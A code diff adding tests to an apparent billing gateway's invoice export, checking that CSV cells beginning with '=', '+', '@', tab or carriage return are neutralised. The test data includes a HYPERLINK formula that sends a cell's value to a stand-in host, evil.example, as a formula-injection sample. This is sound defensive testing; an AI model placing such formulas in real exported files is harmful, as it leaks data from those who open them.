@@ -11,7 +11,7 @@ from decimal import Decimal
 
 import openai
 
-from tallygate.analytics.invoice import apportion
+from tallygate.analytics.invoice import apportion, invoice_csv
 from tests.gateway import Gateway
 
 HELLO = [{"role": "user", "content": "bill me"}]
@@ -93,3 +93,46 @@ def test_report_prints_a_table_and_export_writes_the_invoice_csv(gateway: Gatewa
     assert rows[-1]["line"] == "total" and {"acme", "globex"} <= {r["label.customer_id"] for r in rows}
     out = gateway.cli("report", "--group-by", "colour")
     assert out.returncode != 0 and "unknown dimension 'colour'" in out.stderr
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)"]
+
+
+def test_exported_csv_cells_never_start_like_a_formula(gateway: Gateway, tmp_path) -> None:  # type: ignore[no-untyped-def]
+    for value in [*FORMULAS, "-5", "plain"]:
+        key = gateway.create_key("csv-inj", customer=value)
+        with openai.OpenAI(base_url=gateway.base_url, api_key=key, max_retries=0) as client:
+            last = client.chat.completions.create(model="priced", messages=HELLO).id
+    gateway.log_record(last)
+    query = f"month={month_now()}&group_by=label.customer&markup=0.2"
+    status, doc = gateway.get(f"/v1/analytics/export?{query}")
+    assert status == 200
+    raw = {line["group"]["label.customer"] for line in doc["lines"]}
+    assert {*FORMULAS, "-5", "plain"} <= raw  # the JSON export keeps the values as they are
+
+    status, _, body = gateway.request("GET", f"/v1/analytics/export?{query}&format=csv")
+    assert status == 200
+    target = tmp_path / "invoice.csv"
+    out = gateway.cli("export", "--month", month_now(), "--group-by", "label.customer", "--markup", "0.2",
+                      "-o", str(target))
+    assert out.returncode == 0, out.stderr
+    for text in (body.decode(), target.read_text(encoding="utf-8")):
+        table = list(csv.reader(io.StringIO(text, newline="")))
+        cells = [cell for row in table for cell in row]
+        assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))]
+        groups = {row[1] for row in table[1:-1]}
+        assert {"'" + v for v in FORMULAS} <= groups and "'-5" in groups and "plain" in groups
+        for row in table[1:]:  # numbers stay numbers
+            assert all(Decimal(c) >= 0 for c in row[2:]), row
+
+
+def test_csv_cells_starting_with_a_tab_or_carriage_return_are_neutralised_too() -> None:
+    # Labels refuse control characters, so these reach the CSV writer only from other dimensions.
+    doc = {"group_by": ["\tdim"], "lines": [{"group": {"\tdim": "\r=1+1"}, "requests": 1, "cost": "0.5",
+                                              "markup": "0", "amount_due": "0.50",
+                                              **dict.fromkeys(("input_tokens", "output_tokens", "cached_tokens",
+                                                               "cache_write_tokens", "reasoning_tokens"), 0)}]}
+    doc["totals"] = {**doc["lines"][0], "cost": "-0.5", "markup": "=1"}
+    header, line, total = csv.reader(io.StringIO(invoice_csv(doc), newline=""))
+    assert header[1] == "'\tdim" and line[1] == "'\r=1+1"
+    assert total[8:10] == ["-0.5", "'=1"]  # a plain negative number stays a number; a formula does not
